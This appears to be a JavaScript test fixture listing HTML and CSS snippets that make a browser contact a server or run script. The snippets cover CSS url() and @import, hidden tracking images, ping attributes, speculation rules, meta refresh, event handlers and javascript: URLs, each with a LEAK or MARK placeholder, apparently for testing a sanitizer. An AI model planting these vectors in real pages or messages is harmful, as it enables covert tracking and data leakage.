// What asks a server for something, or tells it something.
export default String.raw`
<p style="background:url(LEAK)">x</p>
<p style="background-image:image-set('LEAK' 1x)">x</p>
<p style="list-style:url('LEAK')">x</p>
<p style="border-image:url(LEAK) 1">x</p>
<p style="cursor:url(LEAK),auto">x</p>
<p style="content:url(LEAK)">x</p>
<p style="mask:url(LEAK#x)">x</p>
<p style="filter:url(LEAK#x)">x</p>
<p style="shape-outside:url(LEAK)">x</p>
<p style="--x:url(LEAK);background:var(--x)">x</p>
<p style="behavior:url(LEAK)">x</p>
<p style="-moz-binding:url(LEAK#x)">x</p>
<p style="width:expression(MARK)">x</p>
<p style="background:\75\72\6c(LEAK)">x</p>
<p style='background:url("LEAK")'>x</p>
<style>@import "LEAK";</style>
<style>@import url(LEAK) screen;</style>
<style>body{background:url(LEAK)}</style>
<style>@font-face{font-family:x;src:url(LEAK)}p{font-family:x}</style>
<style>p::before{content:url(LEAK)}</style>
<style>@namespace x url(LEAK);</style>
<table background=LEAK><tr><td background=LEAK>x</table>
<body background=LEAK>
<img src=LEAK width=1 height=1>
<img src=LEAK width=0 height=0 alt="">
<img src=LEAK style="width:1px;height:1px">
<img src=LEAK style="display:none">
<img src=/picture.png dynsrc=LEAK lowsrc=LEAK longdesc=LEAK>
<img src=/picture.png usemap=LEAK><map name=x><area href=LEAK ping=LEAK></map>
<img src=/picture.png attributionsrc=LEAK>
<a href="https://a.example/" ping=LEAK class=auto>x</a>
<a href="https://a.example/" attributionsrc=LEAK referrerpolicy=unsafe-url>x</a>
<video src=/film.webm preload=auto autoplay><track src=LEAK default></video>
<video src=/film.webm poster="javascript:MARK" autoplay onloadstart=MARK></video>
<audio src=/sound.ogg autoplay preload=auto onloadstart=MARK onerror=MARK></audio>
<input type=image src=LEAK>
<iframe src=LEAK loading=eager></iframe>
<iframe src=https://www.youtube.com/embed/x?leak=LEAK></iframe>
<frameset><frame src=LEAK></frameset>
<object data=LEAK></object>
<link rel=preconnect href=LEAK>
<link rel=prerender href=LEAK>
<link rel=apple-touch-icon href=LEAK>
<link rel=compression-dictionary href=LEAK>
<script type=speculationrules>{"prerender":[{"source":"list","urls":["LEAK"]}]}</script>
<script type=importmap>{"imports":{"x":"LEAK"}}</script>
<script async src=LEAK></script>
<math><mglyph src=LEAK /></math>
<meta http-equiv=refresh content="0;LEAK">
<blockquote cite=LEAK>x</blockquote>
<q cite=LEAK>x</q><del cite=LEAK>y</del><ins cite=LEAK>z</ins>
<html manifest=LEAK>
<head profile=LEAK>
<form action=LEAK method=post target=_top><input name=a></form>`.trim().split('\n');
